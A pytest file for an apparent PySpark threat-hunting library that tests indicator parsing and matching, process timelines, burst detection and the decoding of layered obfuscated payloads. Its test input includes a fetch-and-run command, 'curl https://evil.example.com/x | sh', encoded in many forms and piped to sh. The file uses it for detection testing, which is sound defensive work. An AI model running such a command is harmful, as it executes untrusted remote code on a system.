"""Indicators, processes by time, bursts and payloads against plain loops, with nulls, ties, repeats, bounds and none."""

import base64
import bz2
import gzip
import json
import random
import re
import zlib

import pytest
from pyspark.sql import functions as F

from vestige.operators import indicators as I, payloads as Y, processes as P, windows as W


def found(df):
    return sorted(map(tuple, df.collect()), key=repr)


SCHEMA = "incident string, kind string, value string, low string, below string, exact array<string>"


def listed(spark, rows):
    return I.usable(spark.createDataFrame([("i", k, v, None, None, None) for k, v in rows], SCHEMA))


def test_usable_indicators(spark):
    rows = [("DOMAIN", "Evil[.]Example.COM."), ("domain", "nodots"), ("domain", "::1"), ("url", "hxxps://Evil.com/A"), ("url", "http://a"), ("sha256", "AB" * 32), ("sha256", "ab"), ("path", "/a"), ("path", " /srv/Evil "), ("other", "long-enough"), (None, "x" * 9), ("string", None), ("package", "Left-Pad"), ("domain", "evil.example.com")]
    got = sorted((r.kind, r.value) for r in listed(spark, rows).collect())
    assert got == [("domain", "::1"), ("domain", "evil.example.com"), ("package", "left-pad"), ("path", "/srv/Evil"), ("sha256", "ab" * 32), ("url", "evil.com/a")]


def test_indicator_files(spark, tmp_path):
    pack = {"incidents": [{"id": "A", "indicators": [{"kind": "domain", "value": "evil.example.com"}, {"kind": "package", "value": "left-pad", "low": "1.2.0", "below": "1.3.0"}, {"kind": "package", "value": "is-odd", "versions": ["3.0.0"]}, {"kind": 5}, "odd"]}]}
    stix = {"type": "bundle", "objects": [{"type": "indicator", "id": "S", "pattern": "[domain-name:value = 'stix.example.com' OR url:value='https://stix.example.com/x']"}, {"type": "note"}]}
    misp = {"Event": {"uuid": "M", "Attribute": [{"type": "sha256", "value": "ab" * 32}, {"type": "comment", "value": "nothing"}]}}
    for name, text in (("a", json.dumps(pack)), ("b", json.dumps(stix)), ("c", json.dumps(misp)), ("d", "{broken"), ("e", "[1]")):
        (tmp_path / f"{name}.json").write_text(text)
    got = I.load(spark, str(tmp_path))
    assert sorted((r.incident, r.kind, r.value) for r in got.collect()) == [("A", "domain", "evil.example.com"), ("A", "package", "is-odd"), ("A", "package", "left-pad"), ("M", "sha256", "ab" * 32), ("S", "domain", "stix.example.com"), ("S", "url", "stix.example.com/x")]
    have = [(1, "Left-Pad", "1.2.5"), (2, "left-pad", "1.3.0"), (3, "left-pad", None), (4, "is-odd", "3.0.0"), (5, "is-odd", "3.0.1"), (6, None, "1"), (4, "is-odd", "3.0.0")]
    assert [r.id for r in I.of_packages(spark.createDataFrame(have, "id int, name string, version string"), "name", "version", got).orderBy("id").collect()] == [1, 4]


@pytest.mark.parametrize("block", [8 << 20, 200])
def test_indicators_in_texts(spark, block, monkeypatch):
    monkeypatch.setattr(I, "BLOCK_BYTES", block)
    draw = random.Random(2)
    values = [("domain", "evil.example.com"), ("domain", "example.com"), ("string", "Secret Words"), ("string", "secret wordsmith"), ("path", "/srv/evil"), ("string", "overlaplap")] + [("string", f"filler-{i:05}") for i in range(40)]
    parts = ["evil.example.com", "www.evil.example.com", "notevil.example.com", "evil.example.com.", "evil.example.com.au", "example.com-x", "EXAMPLE.com", "secret words", "SECRET WORDSMITH", "/SRV/evil/x", "overlaplaplap", "filler-00007", "é", "İx", " ", ".", "_", "a", "\n", "x/"]
    texts = [None, "", "evil.example.com"] + ["".join(draw.choice(parts) for _ in range(draw.randrange(12))) for _ in range(300)]
    rows = [(i, i % 3, t, "kept") for i, t in enumerate(texts)]
    df = spark.createDataFrame(rows, "id long, k int, text string, value string")
    want = []
    for i, _, t, _ in rows:
        low = "".join(c.lower() if len(c.lower()) == 1 else c for c in t or "")
        for kind, v in values:
            at = [m.start() for m in re.finditer(f"(?={re.escape(v.lower())})", low)]
            if kind == "domain":
                at = [p for p in at if re.fullmatch(rf"(?s).*(?<![a-z0-9_-]){re.escape(v)}(?![a-z0-9_-]|\.[a-z0-9_-]).*", low) and re.compile(rf"(?<![a-z0-9_-]){re.escape(v)}(?![a-z0-9_-]|\.[a-z0-9_-])").match(low, p)]
            if at:
                want.append((i, kind, v, at[0], len(at)))
    got = found(I.in_texts(df.select("id", "text"), ["id"], "text", listed(spark, values)))
    assert got == sorted(want, key=repr) and {r[1] for r in got} == {"domain", "string", "path"}
    assert I.in_texts(df, ["id", "k"], "text", listed(spark, [])).count() == 0 and I.in_texts(df.limit(0), ["id"], "text", listed(spark, values)).count() == 0


def test_indicators_of_hosts(spark):
    rows = [(1, "a.b.example.com"), (2, "Example.com:443"), (3, "badexample.com"), (4, None), (5, ""), (6, "b.example.com."), (1, "a.b.example.com")]
    got = found(I.of_hosts(spark.createDataFrame(rows, "id int, h string"), "h", listed(spark, [("domain", "example.com"), ("domain", "b.example.com")])))
    assert [(r[0], r[2]) for r in got] == [(1, "b.example.com"), (1, "b.example.com"), (1, "example.com"), (1, "example.com"), (2, "example.com"), (6, "b.example.com"), (6, "example.com")]


@pytest.mark.parametrize("seed", range(3))
def test_processes_by_time(spark, seed):
    draw = random.Random(seed)
    records = [(draw.choice(["h", "g", None]), draw.choice([1, 2, 3, None]), draw.choice([1, 2, None]), draw.choice([*range(0, 60), None]), draw.choice(["exec", "exec", "exit", "other"]), i) for i in range(150)]
    points = [(i, draw.choice(["h", "g", None]), draw.choice([1, 2, 3, 9, None]), draw.choice([*range(0, 70), None])) for i in range(100)]
    r = spark.createDataFrame(records + records[:4], "host string, pid long, ppid long, at long, what string, record_id long")
    life = {}
    good = [x for x in records if None not in (x[0], x[1], x[3]) and x[4] in ("exec", "exit")]
    for host, pid, _, at, what, i in good:
        if what == "exec":
            life[host, pid, at] = max(life.get((host, pid, at), -1), i)
    spans = []
    for (host, pid, at), i in life.items():
        stops = [x[3] for x in good if x[:2] == (host, pid) and (x[4] == "exit" and x[3] >= at or x[4] == "exec" and x[3] > at)]
        spans.append((host, pid, at, min(stops, default=None), i))
    assert found(P.lives(r)) == sorted(spans, key=repr)
    want = []
    for i, host, pid, at in points:
        best = max((s for s in spans if None not in (host, pid, at) and s[:2] == (host, pid) and s[2] <= at + 2), key=lambda s: s[2], default=None)
        want.append((i, best[4] if best else None, None if not best or best[3] is None else best[3] + 2 < at))
    p = spark.createDataFrame(points, "match_id long, host string, pid long, at long")
    got = found(P.alive_at(p, r, 2).select("match_id", "process_id", "ended"))
    assert got == sorted(want, key=repr)
    near = set()
    for i, process, _ in want:
        for host, pid, start, stop, own in spans:
            if own == process and process is not None:
                for x in records:
                    if x[0] == host and x[3] is not None and start <= x[3] and (stop is None or x[3] <= stop):
                        near |= {(i, x[5], "same")} if x[1] == pid else set()
                        near |= {(i, x[5], "child")} if x[2] == pid and x[4] == "exec" else set()
    assert found(P.related(p, r, 2)) == sorted(near, key=repr)
    assert P.alive_at(p.limit(0), r, 2).count() == 0 and [x.process_id for x in P.alive_at(p, r.limit(0), 2).collect()] == [None] * 100


@pytest.mark.parametrize("seed", range(3))
def test_bursts_of_different_values(spark, seed):
    draw = random.Random(seed)
    rows = [(draw.choice(["a", "b", None]), draw.choice([*range(0, 200), None]), draw.choice(["x", "y", "z", "w", None]), "kept") for _ in range(120)]
    df = spark.createDataFrame(rows, "k string, at long, v string, n_rows string")
    want = [(*r, None if r[1] is None else len({x[2] for x in rows if x[0] == r[0] and x[1] is not None and r[1] <= x[1] <= r[1] + 9 and x[2] is not None})) for r in rows]
    assert found(W.distinct_ahead(df, ["k"], "at", "v", 9)) == sorted(want, key=repr)
    out = []
    for k in ("a", "b", None):
        own, i = sorted((r[1], r[2] or "") for r in rows if r[0] == k and r[1] is not None), 0
        while i < len(own):
            j = i
            while j + 1 < len(own) and own[j + 1][0] - own[i][0] <= 9:
                j += 1
            if len({v for _, v in own[i : j + 1] if v}) < 3:
                i += 1
                continue
            while j + 1 < len(own) and own[j + 1][0] - own[j][0] <= 9:
                j += 1
            i = min(m for m in range(i + 1) if own[m][0] == own[i][0])
            out.append((k, own[i][0], own[j][0], j - i + 1, len({v for _, v in own[i : j + 1] if v})))
            i = j + 1
    assert found(W.bursts(df.drop("n_rows"), ["k"], "at", "v", 9, 3)) == sorted(out, key=repr) and out
    assert W.bursts(df.limit(0), ["k"], "at", "v", 9, 3).count() == 0


def test_one_busy_key_is_counted_in_one_pass(spark):
    df = spark.range(300_000).select(F.lit("k").alias("k"), F.col("id").alias("at"), (F.col("id") % 7).cast("string").alias("v"))
    assert W.distinct_ahead(df, ["k"], "at", "v", 100_000).agg(F.sum("n_distinct")).first()[0] == 7 * (300_000 - 6) + 21


SAID = "curl https://evil.example.com/x | sh; echo naïve"


def test_payload_layers(spark):
    b64 = lambda b: base64.b64encode(b).decode()
    raw = SAID.encode()
    rows = [
        ("plain", "nothing at all in here, 0123456789"), (None, b64(raw)), ("null", None), ("empty", ""), ("b64", f"echo '{b64(raw)}' | sh"), ("url", base64.urlsafe_b64encode(raw + b"??>>").decode()), ("hex", raw.hex()), ("xhex", "".join(f"\\x{c:02x}" for c in raw)), ("b32", base64.b32encode(raw).decode()),
        ("gzip", b64(gzip.compress(raw))), ("zlib", b64(zlib.compress(raw))), ("bz2", b64(bz2.compress(raw))), ("two", b64(gzip.compress(zlib.compress(raw)))), ("wide", b64(SAID.encode("utf-16-le"))), ("deep", b64(b64(raw.hex().encode()).encode())), ("wrapped", "\r\n".join(re.findall(".{1,40}", b64(raw)))),
        ("bomb", b64(gzip.compress(b"a" * 5_000_000))), ("broken", b64(gzip.compress(raw)[:10] + b"\xff" * 12)), ("noise", b64(bytes(range(128, 200)))), ("word", "donaudampfschifffahrtsgesellschaft"), ("long", "QUJD" * 300_000), ("five", b64(b64(b64(b64(b64(raw).encode()).encode()).encode()).encode())), ("twice", f"{b64(raw)} {b64(raw)}"),
    ]
    got = {}
    for r in Y.payloads(spark.createDataFrame(rows, "id string, t string"), "id", "t").collect():
        got.setdefault(r.id, []).append((r.depth, r.chain, r.outcome, r.payload))
    one = lambda chain: [(1, chain, "text", SAID)]
    for name, chain in (("b64", "base64"), (None, "base64"), ("hex", "hex"), ("xhex", "hex"), ("b32", "base32"), ("gzip", "base64>gzip"), ("zlib", "base64>zlib"), ("bz2", "base64>bzip2"), ("two", "base64>gzip>zlib"), ("wide", "base64>utf16le"), ("wrapped", "base64"), ("twice", "base64")):
        assert got[name] == one(chain), name
    assert got["url"][0][3] == SAID + "??>>" and sorted(got["deep"])[-1] == (3, "hex", "text", SAID) and len(got["deep"]) == 3
    assert [x[2] for x in got["bomb"]] == ["bomb"] and [x[2] for x in got["broken"]] in (["broken"], ["binary"]) and [x[2] for x in got["noise"]] == ["binary"] and [x[2] for x in got["long"]] == ["long"]
    assert max(got["five"])[0] == 4 and max(got["five"])[3] == b64(raw) and not {"plain", "null", "empty", "word"} & set(got)
    assert Y.payloads(spark.createDataFrame([], "id long, t string"), "id", "t").count() == 0


def test_powershell(spark):
    run = base64.b64encode("Get-Item é".encode("utf-16-le")).decode()
    rows = [(f"powershell -enc {run}", "Get-Item é"), (f"C:\\x\\PowerShell.EXE -NoP /EncodedCommand '{run}'", "Get-Item é"), (f"pwsh -e {run}", "Get-Item é"), (f"bash -e {run}", None), ("powershell -enc !!!", None), ("powershell -enc QUJD", None), ("", None), (None, None)]
    got = spark.createDataFrame(rows, "c string, w string").select("c", "w", Y.powershell(F.col("c")).alias("g")).collect()
    assert [(r.c, r.g) for r in got] == [(r.c, r.w) for r in got]
